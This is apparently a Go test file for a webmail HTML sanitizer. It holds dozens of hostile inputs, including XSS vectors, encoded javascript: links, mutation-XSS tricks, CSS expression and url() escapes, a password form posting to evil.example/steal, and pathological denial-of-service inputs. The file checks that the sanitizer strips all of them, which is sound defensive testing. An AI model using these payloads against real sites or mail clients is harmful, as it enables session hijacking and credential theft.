package htmlsafe

import (
	"strings"
	"testing"
	"time"

	"github.com/webmail/webmail/mail/internal/mailtest"
)

func cidURL(cid string) string { return "/parts/cid/" + cid }

// TestSanitizeHostile feeds hostile snippets through Sanitize and
// checks what must be gone, what must stay, and whether remote content was
// reported as blocked.
func TestSanitizeHostile(t *testing.T) {
	tests := []struct {
		name    string
		in      string
		opts    Options
		mustNot []string // case-insensitive
		must    []string // exact
		blocked bool
	}{
		{name: "script", in: `<script>alert(1)</script><p>hi</p>`,
			mustNot: []string{"<script", "alert"}, must: []string{"<p>hi</p>"}},
		{name: "script with src", in: `<script src="https://evil.example/x.js"></script>ok`,
			mustNot: []string{"script", "evil"}, must: []string{"ok"}},
		{name: "img onerror", in: `<img src=x onerror=alert(1)>`,
			mustNot: []string{"onerror", "alert", `src="x"`}},
		{name: "event handlers", in: `<p onclick="alert(1)" onmouseover=alert(2) ONLOAD="x()">t</p>`,
			mustNot: []string{"onclick", "onmouseover", "onload", "alert"}, must: []string{"<p>t</p>"}},
		{name: "javascript link", in: `<a href="javascript:alert(1)">x</a>`,
			mustNot: []string{"javascript", "alert", "href"}},
		{name: "javascript link, entity colon, mixed case", in: `<a href="JaVaScRiPt&#58;alert(1)">x</a>`,
			mustNot: []string{"javascript", "alert", "href"}},
		{name: "javascript link, encoded letter", in: `<a href="&#106;avascript:alert(1)">x</a>`,
			mustNot: []string{"javascript", "alert"}},
		{name: "javascript link with tab", in: "<a href=\"java\tscript:alert(1)\">x</a>",
			mustNot: []string{"script", "alert"}},
		{name: "javascript link, leading space", in: `<a href=" javascript:alert(1)">x</a>`,
			mustNot: []string{"javascript"}},
		{name: "vbscript link", in: `<a href="vbscript:msgbox(1)">x</a>`,
			mustNot: []string{"vbscript", "msgbox"}},
		{name: "data link", in: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
			mustNot: []string{"data:", "href"}},
		{name: "data image link", in: `<a href="data:image/png;base64,iVBORw0KGgo=">x</a>`,
			mustNot: []string{"data:"}},
		{name: "relative link", in: `<a href="/settings/delete">x</a>`,
			mustNot: []string{"href", "settings"}},
		{name: "iframe", in: `<iframe src="https://evil.example/"></iframe><frameset><frame src="x"></frameset>`,
			mustNot: []string{"iframe", "frame", "evil"}},
		{name: "form and inputs", in: `<form action="https://evil.example/steal" method=post><input name=pw type=password><textarea>t</textarea><select><option>o</option></select><button formaction="https://evil.example/">go</button></form>`,
			mustNot: []string{"<form", "<input", "<textarea", "<select", "<button", "action", "evil"}},
		{name: "meta refresh", in: `<meta http-equiv="refresh" content="0;url=https://evil.example/">text`,
			mustNot: []string{"meta", "refresh", "evil"}, must: []string{"text"}},
		{name: "base", in: `<base href="https://evil.example/"><a href="https://ok.example/">x</a>`,
			mustNot: []string{"<base", "evil"}, must: []string{`href="https://ok.example/"`}},
		{name: "link stylesheet", in: `<link rel=stylesheet href="https://evil.example/x.css">`,
			mustNot: []string{"<link", "evil"}},
		{name: "object and embed", in: `<object data="https://evil.example/x.swf"><param name=a value=b></object><embed src="https://evil.example/y.swf">`,
			mustNot: []string{"object", "embed", "param", "evil"}},
		{name: "svg use", in: `<svg><use href="https://evil.example/s.svg#a"/></svg>`,
			mustNot: []string{"svg", "<use", "evil"}},
		{name: "svg xlink image", in: `<svg><image xlink:href="https://evil.example/t.png"/><script>alert(1)</script></svg>`,
			mustNot: []string{"svg", "image", "evil", "alert"}},
		{name: "svg data image in img", in: `<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`,
			mustNot: []string{"svg", "src"}},
		{name: "png data image kept", in: `<img src="data:image/png;base64,iVBORw0KGgo=">`,
			must: []string{`src="data:image/png;base64,iVBORw0KGgo="`}},
		{name: "mXSS via noscript", in: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
			mustNot: []string{"onerror", "alert("}},
		{name: "mXSS via math/style", in: `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
			mustNot: []string{"onerror", "<math", "<style><img"}},
		{name: "style breakout", in: `<style>a{font-family:"</style><script>alert(1)</script>"}</style>`,
			mustNot: []string{"<script", "alert"}},
		{name: "unknown element with handler", in: `<x-custom onload=alert(1)>t</x-custom>`,
			mustNot: []string{"x-custom", "onload"}, must: []string{"t"}},

		// CSS in attributes.
		{name: "style url remote", in: `<div style="background:url(http://evil.example/t.png)">x</div>`,
			mustNot: []string{"evil", "url("}, blocked: true},
		{name: "style url quoted entity", in: `<div style="background: url(&quot;https://evil.example/t.png&quot;); color: red">x</div>`,
			mustNot: []string{"evil"}, must: []string{`style="color: red"`}, blocked: true},
		{name: "style url allowed", in: `<div style="background-image:url('https://img.example/bg.png')">x</div>`, opts: Options{AllowRemote: true},
			must: []string{`url(&#34;https://img.example/bg.png&#34;)`}},
		{name: "style url with a scary path", in: `<div style="background:url(https://img.example/javascript-guide.png)">x</div>`, opts: Options{AllowRemote: true},
			must: []string{`url(&#34;https://img.example/javascript-guide.png&#34;)`}},
		{name: "style bad word after a url", in: `<div style="background:url(https://img.example/a.png) expression(alert(1))">x</div>`, opts: Options{AllowRemote: true},
			mustNot: []string{"expression", "style="}},
		{name: "style url with parentheses", in: `<div style="background:url(https://img.example/x(1).png)">x</div>`, opts: Options{AllowRemote: true},
			mustNot: []string{"style="}},
		{name: "style expression", in: `<div style="width: expression(alert(1)); color: blue">x</div>`,
			mustNot: []string{"expression", "alert"}, must: []string{`style="color: blue"`}},
		{name: "style behavior", in: `<div style="behavior: url(x.htc)">x</div>`,
			mustNot: []string{"behavior", "htc"}},
		{name: "style moz-binding", in: `<div style="-moz-binding: url(https://evil.example/x.xml#a)">x</div>`,
			mustNot: []string{"binding", "evil"}},
		{name: "style javascript url", in: `<div style="background:url(javascript:alert(1))">x</div>`,
			mustNot: []string{"javascript", "alert"}},
		{name: "style escaped url", in: `<div style="background:\75rl(https://evil.example/)">x</div>`,
			mustNot: []string{"evil", `\75`}},
		{name: "style comment splitting url", in: `<div style="background:u/**/rl(https://evil.example/)">x</div>`,
			mustNot: []string{"url(", "/**/"}},
		{name: "style position", in: `<div style="position: fixed; top: 0; color: red">x</div>`,
			mustNot: []string{"position", "top"}, must: []string{`style="color: red"`}},
		{name: "background attribute", in: `<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>`,
			mustNot: []string{"evil", "background"}, blocked: true},

		// <style> blocks.
		{name: "style block kept and filtered", in: `<style>p { color: red; } .x{position:absolute;margin:0}</style><p>x</p>`,
			must: []string{"<style>p{color: red}.x{margin: 0}</style>"}, mustNot: []string{"position"}},
		{name: "style block import", in: `<style>@import url(https://evil.example/x.css); @import "https://evil.example/y.css"; p{color:red}</style>`,
			mustNot: []string{"import", "evil"}, must: []string{"p{color: red}"}},
		{name: "style block escaped url", in: `<style>p{background:\75rl(https://evil.example/x)} q{color:blue}</style>`,
			mustNot: []string{"evil", `\`}, must: []string{"q{color: blue}"}},
		{name: "style block expression", in: `<style>p{width:expression(alert(1))}</style>`,
			mustNot: []string{"expression", "alert", "<style>"}},
		{name: "style block remote background", in: `<style>p{color:red;background:url("https://evil.example/a.png")}</style>`,
			mustNot: []string{"evil"}, must: []string{"p{color: red}"}, blocked: true},
		{name: "style block remote allowed", in: `<style>p{background:url(https://img.example/a.png)}</style>`, opts: Options{AllowRemote: true},
			must: []string{`p{background: url("https://img.example/a.png")}`}},
		{name: "style block font-face", in: `<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)} p{color:red}</style>`,
			mustNot: []string{"font-face", "evil"}, must: []string{"p{color: red}"}},
		{name: "style block media", in: `<style>@media screen and (max-width: 600px) { .a { width: 100% !important } }</style>`,
			must: []string{"@media screen and (max-width: 600px){.a{width: 100% !important}}"}},
		{name: "style block markup in selector", in: `<style>p</style><script>alert(1)</script>{color:red}</style>`,
			mustNot: []string{"<script", "alert"}},
		{name: "style block html comments", in: `<style><!-- p{color:red} --></style>`,
			must: []string{"<style>p{color: red}</style>"}},
		{name: "style block position", in: `<style>*{position:fixed;z-index:99999}</style>`,
			mustNot: []string{"position", "z-index"}},

		// Remote images.
		{name: "remote img blocked", in: `<img src="https://tracker.example/pixel.gif" width="1" height="1">`,
			mustNot: []string{"tracker", "src="}, must: []string{`width="1"`}, blocked: true},
		{name: "remote img upper-case tag", in: `<IMG SRC="https://tracker.example/p.gif">`,
			mustNot: []string{"tracker"}, blocked: true},
		{name: "remote img allowed", in: `<img src="https://img.example/a.png" alt="A">`, opts: Options{AllowRemote: true},
			must: []string{`src="https://img.example/a.png"`, `alt="A"`}},
		{name: "protocol-relative img", in: `<img src="//tracker.example/p.gif">`,
			mustNot: []string{"tracker"}, blocked: true},
		{name: "srcset blocked", in: `<img srcset="https://img.example/a.png 1x, https://img.example/b.png 2x">`,
			mustNot: []string{"img.example", "srcset"}, blocked: true},
		{name: "srcset allowed", in: `<img srcset="https://img.example/a.png 1x, https://img.example/b.png 2x">`, opts: Options{AllowRemote: true},
			must: []string{`srcset="https://img.example/a.png 1x, https://img.example/b.png 2x"`}},
		{name: "local content is not blocked", in: `<p style="color:red">hi</p><img src="cid:a@b">`,
			mustNot: []string{"cid:"}},

		// cid: mapping.
		{name: "cid img mapped", in: `<img src="cid:logo@example.org">`, opts: Options{CIDURL: cidURL},
			must: []string{`src="/parts/cid/logo@example.org"`}},
		{name: "cid img in angle brackets and escaped", in: `<img src="CID:%3Clogo@example.org%3E">`, opts: Options{CIDURL: cidURL},
			must: []string{`src="/parts/cid/logo@example.org"`}},
		{name: "cid background mapped", in: `<td style="background-image:url(cid:bg)">x</td>`, opts: Options{CIDURL: cidURL},
			must: []string{`url(&#34;/parts/cid/bg&#34;)`}},
		{name: "cid without mapper dropped", in: `<img src="cid:logo@example.org">`,
			mustNot: []string{"cid", "src"}},
		{name: "cid mapper refusing", in: `<img src="cid:unknown">`, opts: Options{CIDURL: func(string) string { return "" }},
			mustNot: []string{"src"}},

		// What must survive.
		{name: "links get target and rel", in: `<a href="https://example.org/">x</a>`,
			must: []string{`<a href="https://example.org/" target="_blank" rel="noopener noreferrer">x</a>`}},
		{name: "links lose their own target and rel", in: `<a href="https://example.org/" target="_self" rel="opener">x</a>`,
			must: []string{`<a href="https://example.org/" target="_blank" rel="noopener noreferrer">x</a>`}, mustNot: []string{"_self", `"opener"`}},
		{name: "mailto link opens compose", in: `<a href="mailto:a@example.org?subject=Hi%20there">a</a>`,
			must: []string{`href="/compose?mailto=mailto%3Aa%40example.org%3Fsubject%3DHi%2520there"`, `target="_blank"`}},
		{name: "mailto link kept", in: `<a href="mailto:a@example.org">a</a>`, opts: Options{KeepMailto: true},
			must: []string{`href="mailto:a@example.org"`}},
		{name: "anchor link", in: `<a href="#sec">a</a><a name="sec">b</a>`,
			must: []string{`<a href="#sec" rel="noreferrer">a</a>`, `<a name="sec">b</a>`}},
		{name: "table layout", in: `<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" align="center"><tr><td align="center" valign="top" colspan="2" style="padding: 10px">x</td></tr></table>`,
			must: []string{`width="100%"`, `cellpadding="0"`, `bgcolor="#ffffff"`, `valign="top"`, `colspan="2"`, `style="padding: 10px"`}},
		{name: "font", in: `<font face="Arial, sans-serif" color="#333333" size="2">x</font>`,
			must: []string{`<font face="Arial, sans-serif" color="#333333" size="2">x</font>`}},
		{name: "body becomes div", in: `<html><head><title>T</title></head><body bgcolor="#eeeeee" style="margin:0">x</body></html>`,
			must: []string{`<div bgcolor="#eeeeee" style="margin: 0">x</div>`}, mustNot: []string{"<body", "<title", ">T<"}},
		{name: "class kept for style blocks", in: `<style>.hl{color:red}</style><span class="hl">x</span>`,
			must: []string{`class="hl"`, ".hl{color: red}"}},
	}
	for _, tc := range tests {
		safe, blocked := Sanitize(tc.in, tc.opts)
		lower := strings.ToLower(safe)
		for _, bad := range tc.mustNot {
			if strings.Contains(lower, strings.ToLower(bad)) {
				t.Errorf("%s: output contains %q:\n%s", tc.name, bad, safe)
			}
		}
		for _, good := range tc.must {
			if !strings.Contains(safe, good) {
				t.Errorf("%s: output lacks %q:\n%s", tc.name, good, safe)
			}
		}
		if blocked != tc.blocked {
			t.Errorf("%s: blocked = %v, want %v", tc.name, blocked, tc.blocked)
		}
		mailtest.AssertNoActiveContent(t, tc.name, safe)
	}
}

func TestSanitizeKeepsText(t *testing.T) {
	in := `<div><p>Hello <b>world</b> &amp; <i>friends</i> &lt;3</p><ul><li>one</li></ul><blockquote>q</blockquote><pre>  code</pre></div>`
	safe, blocked := Sanitize(in, Options{})
	if safe != in || blocked {
		t.Errorf("harmless HTML changed:\n got %s\nwant %s", safe, in)
	}
}

// TestSanitizeLimits feeds pathological input to the sanitizer and its
// CSS filter; each must finish quickly.
func TestSanitizeLimits(t *testing.T) {
	inputs := map[string]string{
		"open parens in style":  `<div style="` + strings.Repeat("(", 1<<20) + `">x</div>`,
		"many statements":       "<style>" + strings.Repeat("@a;", 100000) + "</style>",
		"many at-rules":         "<style>" + strings.Repeat("@x{}", 100000) + "</style>",
		"nested media":          "<style>" + strings.Repeat("@media screen{", 10000) + "p{color:red}" + "</style>",
		"many rules":            "<style>" + strings.Repeat("p{color:red}", 100000) + "</style>",
		"unterminated strings":  "<style>" + strings.Repeat(`p{font-family:"x}`, 50000) + "</style>",
		"deep tags":             strings.Repeat("<div>", 200000),
		"many attributes":       "<p " + strings.Repeat(`style="color:red" `, 50000) + ">x</p>",
		"many urls":             `<div style="background:` + strings.Repeat("url(https://a.example/x) ", 20000) + `">`,
		"many comments in css":  "<style>" + strings.Repeat("/*", 100000) + "</style>",
		"huge single attribute": `<img alt="` + strings.Repeat("a", 4<<20) + `">`,
	}
	for name, in := range inputs {
		start := time.Now()
		Sanitize(in, Options{AllowRemote: true})
		if elapsed := time.Since(start); elapsed > 2*time.Second {
			t.Errorf("%s: took %v", name, elapsed)
		}
	}
}
